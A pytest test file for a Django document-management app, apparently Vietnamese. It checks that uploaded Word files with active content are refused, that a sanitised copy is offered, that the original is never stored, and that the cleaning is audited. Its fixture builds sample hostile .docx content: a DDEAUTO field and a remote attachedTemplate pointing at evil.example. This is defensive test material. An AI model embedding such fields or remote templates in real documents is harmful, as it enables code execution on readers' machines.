"""Of a file that acts a cleaned copy is offered; the original is never kept."""

import hashlib
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from lienthong.kernel.audit.models import AuditEntry
from lienthong.kernel.files.models import StoredFile
from lienthong.kernel.files.packages import Package
from lienthong.kernel.files.tests import made

from ..models import Document

pytestmark = pytest.mark.django_db
OFFER = re.compile(r'name="([\w-]+-cleaned)"\s+value="([0-9a-f]{64})"')


def acting(words="Đề nghị báo cáo trước ngày 25/02/2027.", place="https://evil.example/a.dotm"):
    file = made.word(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>" + made.field("DDEAUTO c:\\\\a"))
    file.outside("attachedTemplate", place)
    return file.data()


def brought(client, where, field, data, **more):
    given = {field: SimpleUploadedFile("cong-van.docx", data)} | more
    return client.post(where, given)


@pytest.fixture
def importing(province, signed_in):
    client, where = signed_in("specialist"), reverse("documents:import")

    def bring(data, **more):
        return brought(
            client, where, "import-file", data, **{"import-issuer": province.committee.pk}, **more
        )

    return bring


def offered(answer):
    (offer,) = OFFER.findall(answer.content.decode())
    return dict([offer])


def test_what_acts_is_named_a_copy_is_offered_and_nothing_is_kept(importing, settings):
    data = acting()

    answer = importing(data)

    page = answer.content.decode()
    assert answer.status_code == 422
    assert "https://evil.example/a.dotm" in page
    assert "DDEAUTO" in page
    assert offered(answer) == {"import-file-cleaned": hashlib.sha256(data).hexdigest()}
    assert not Document.objects.exists()
    assert not StoredFile.objects.exists()


def test_who_agrees_brings_the_copy_and_the_history_names_the_original(importing):
    data = acting()

    answer = importing(data, **offered(importing(data)))

    assert answer.status_code == 302
    document = Document.objects.get()
    kept = document.source_file.read()
    assert "25/02/2027" in Package(kept).xml("word/document.xml").findtext(".//{*}t")
    assert b"evil" not in b"".join(Package(kept).read(name) for name in Package(kept).names)
    original = hashlib.sha256(data).hexdigest()
    assert not StoredFile.objects.filter(sha256=original).exists()
    entry = AuditEntry.objects.get(verb="documents.cleaned")
    assert entry.facts["original"] == original
    assert "evil.example" in entry.facts["taken_out"]


def test_a_yes_is_good_for_the_file_it_was_asked_about(importing):
    agreed = offered(importing(acting()))

    answer = importing(acting(place="https://evil.example/other.dotm"), **agreed)

    assert offered(answer) != agreed
    assert not Document.objects.exists()


def test_a_mark_of_secrecy_refuses_the_copy_too(importing):
    data = acting("TỐI MẬT")

    answer = importing(data, **offered(importing(data)))

    assert answer.status_code == 409
    assert not StoredFile.objects.exists()


def test_a_file_without_anything_that_acts_is_offered_nothing(importing):
    answer = importing(made.word().data())

    assert answer.status_code == 302
    assert not AuditEntry.objects.filter(verb="documents.cleaned").exists()


def test_a_cleaned_copy_may_travel_along(province, signed_in):
    document, data = province.draft(), acting()
    client, where = signed_in("specialist"), reverse("documents:attach", args=[document.pk])

    first = brought(client, where, "attach-file", data)
    second = brought(client, where, "attach-file", data, **offered(first))

    assert (first.status_code, second.status_code) == (422, 302)
    assert document.attachments.get().file.sha256 != hashlib.sha256(data).hexdigest()
    assert AuditEntry.objects.filter(verb="documents.cleaned").count() == 1
